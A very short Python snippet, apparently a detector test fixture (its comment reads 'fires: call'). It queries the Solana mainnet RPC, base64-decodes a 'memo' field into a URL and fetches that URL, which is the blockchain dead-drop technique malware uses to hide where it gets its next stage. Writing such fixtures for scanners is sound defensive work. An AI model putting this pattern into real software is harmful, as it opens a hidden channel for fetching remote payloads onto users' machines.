import base64, requests

def start():
    memo = requests.post("https://api.mainnet-beta.solana.com", json={}).json()["memo"]
    return requests.get(base64.b64decode(memo).decode())  # fires: call
